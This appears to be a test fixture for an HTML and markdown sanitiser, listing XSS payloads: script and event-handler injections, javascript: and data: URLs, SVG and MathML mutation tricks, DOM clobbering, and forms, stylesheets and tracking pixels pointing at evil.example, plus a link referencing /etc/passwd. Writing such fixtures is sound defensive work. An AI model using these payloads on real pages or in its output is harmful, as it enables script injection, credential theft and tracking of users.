// What a hostile model might write, for the sanitiser tests: script, handlers, script URLs, SVG, MathML
// mutation tricks, forms, remote images and styles, DOM clobbering, and a fake path link.

const SET = 'window.__pwned=(window.__pwned||0)+1';
/** Each payload on its own (an unclosed one swallows what follows it), and all of them in one text. */
export const PAYLOADS = [
  `<img src=x onerror="${SET}">`,
  `<script>${SET}</script>`,
  `<svg onload="${SET}"><circle r="5"/></svg>`,
  `<svg><script>${SET}</script><a xlink:href="javascript:${SET}"><text y="20">svg link</text></a></svg>`,
  `<a href="javascript:${SET}">js link</a>`,
  `<a href=" JaVaScRiPt:${SET}">spaced js link</a>`,
  `[markdown js link](javascript:${SET})`,
  `[entity js link](jav&#x61;script:${SET})`,
  `<a href="data:text/html,<script>parent.__pwned=1</script>">data link</a>`,
  `<a href="vbscript:msgbox(1)">vb link</a>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/embed">`,
  `<form action="https://evil.example/steal"><input name="q" autofocus onfocus="${SET}"><button formaction="javascript:${SET}">Send</button></form>`,
  `<details open ontoggle="${SET}"><summary>details</summary>inside</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${SET}">`,
  `<noscript><p title="</noscript><img src=x onerror=${SET}>"></noscript>`,
  `<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  `![tracker](https://evil.example/pixel.png) <img src="https://evil.example/pixel2.png"> <video poster="https://evil.example/poster.png"><source src="https://evil.example/v.mp4" onerror="${SET}"></video>`,
  `<div style="background-image:url(https://evil.example/bg.png)">styled div</div>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping" target="_top">raw web link</a>`,
  '[web link](https://evil.example/ "a title") and <https://evil.example/autolink>',
  `<p id="app">clobber</p><form name="getElementById"></form><img name="body">`,
  `<x onclick="${SET}" class="rlm-ref" data-path="/etc/passwd">src/evil.ts:1</x>`,
  '```html\n<script>window.__pwned=1</script>\n```',
  `<template><img src=x onerror="${SET}"></template><dialog open onclose="${SET}">dialog</dialog>`,
];
export const HOSTILE = PAYLOADS.join('\n\n');
